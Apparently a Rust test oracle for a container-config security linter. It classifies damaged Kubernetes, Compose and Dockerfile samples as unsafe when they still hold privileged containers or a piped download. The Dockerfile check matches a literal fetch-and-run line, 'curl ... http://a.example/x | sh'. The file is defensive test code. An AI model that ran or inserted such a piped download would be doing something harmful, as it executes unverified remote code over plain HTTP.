//! Who says what is left in a damaged file: the programs that would run it if they are named, else a reader of YAML that
//! shares no code with ours.

use std::path::Path;
use std::process::Command;

use serde::Deserialize;
use yaml_serde::Value;

use crate::{Reader, Sample};

/// Rules that tell of what the samples hold.
pub(crate) const TELLING: [&str; 3] =
    ["privileged-container", "piped-download", "plain-http-download"];

/// What is left of a file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Answer {
    /// It holds a privileged container, or a download that is run.
    Unsafe,
    /// It cannot be read, though something tells what it is.
    Refused,
    /// It holds nothing of that.
    Other,
}

/// Asks for a file.
pub(crate) fn ask(sample: &Sample, path: &Path, bytes: &[u8]) -> Answer {
    // A mark of byte order at the start of a later line is passed over by go-yaml and a part of the key for us.
    if bytes.get(1..).is_some_and(|rest| contains(rest, "\u{feff}")) {
        return Answer::Other;
    }
    let is_told = sample.telling.iter().all(|word| contains(bytes, word));
    match (sample.reader, program(sample.reader)) {
        (Reader::Docker, _) => instruction(bytes),
        (Reader::Kubernetes, Some(kubectl)) => run(
            Command::new(kubectl).args(["label", "--local", "a=b", "-o", "json", "-f"]).arg(path),
            is_told,
        ),
        (Reader::Compose, Some(compose)) => run(
            Command::new(compose).arg("-f").arg(path).args(["config", "--format", "json"]),
            is_told,
        ),
        (_, None) => yaml(sample.reader, bytes, is_told),
    }
}

fn program(reader: Reader) -> Option<String> {
    let name = match reader {
        Reader::Docker => return None,
        Reader::Compose => "PLIMSOLL_COMPOSE",
        Reader::Kubernetes => "PLIMSOLL_KUBECTL",
    };
    std::env::var(name).ok()
}

/// What a program prints of a file.
fn run(command: &mut Command, is_told: bool) -> Answer {
    let output = command.output().unwrap();
    let printed = String::from_utf8_lossy(&output.stdout).replace(char::is_whitespace, "");
    match output.status.success() {
        _ if printed.contains("\"privileged\":true") => Answer::Unsafe,
        false if is_told => Answer::Refused,
        _ => Answer::Other,
    }
}

/// A Dockerfile is read as bytes: the instruction is there if its line is.
fn instruction(bytes: &[u8]) -> Answer {
    let wanted = b"RUN curl -sSf http://a.example/x | sh";
    let lines: Vec<_> = bytes.split(|byte| *byte == b'\n').collect();
    let is_first = |line: &&[u8]| line.starts_with(b"FROM debian:13");
    let from = lines.iter().position(is_first);
    // What stands before may be a directive, or go on in the next line.
    let is_plain = bytes.starts_with(b"FROM debian:13\n");
    match from {
        Some(0) if is_plain && lines.get(1).is_some_and(|line| line == wanted) => Answer::Unsafe,
        _ => Answer::Other,
    }
}

fn yaml(reader: Reader, bytes: &[u8], is_told: bool) -> Answer {
    let Ok(text) = std::str::from_utf8(bytes) else { return refused(is_told) };
    let mut answer = Answer::Other;
    for document in yaml_serde::Deserializer::from_str(text) {
        let Ok(value) = Value::deserialize(document) else { return refused(is_told) };
        if is_unsafe(reader, &value) {
            answer = Answer::Unsafe;
        }
    }
    answer
}

fn refused(is_told: bool) -> Answer {
    if is_told { Answer::Refused } else { Answer::Other }
}

fn is_unsafe(reader: Reader, root: &Value) -> bool {
    match reader {
        Reader::Docker => false,
        Reader::Compose => {
            let services = root.get("services").and_then(Value::as_mapping);
            services.into_iter().flat_map(|it| it.values()).any(|service| {
                service.get("image").is_some_and(Value::is_string)
                    && service.get("privileged") == Some(&Value::Bool(true))
            })
        }
        Reader::Kubernetes => {
            let list = root.get("items").and_then(Value::as_sequence);
            is_pod(root)
                || root.get("kind").and_then(Value::as_str) == Some("List")
                    && root.get("apiVersion").is_some()
                    && list.into_iter().flatten().any(is_pod)
        }
    }
}

fn is_pod(object: &Value) -> bool {
    let text = |key: &str| object.get(key).and_then(Value::as_str);
    let containers = object.get("spec").and_then(|spec| spec.get("containers"));
    text("apiVersion") == Some("v1")
        && text("kind") == Some("Pod")
        && containers.and_then(Value::as_sequence).into_iter().flatten().any(|container| {
            let context = container.get("securityContext");
            context.and_then(|it| it.get("privileged")) == Some(&Value::Bool(true))
        })
}

fn contains(bytes: &[u8], word: &str) -> bool {
    bytes.windows(word.len()).any(|window| window == word.as_bytes())
}
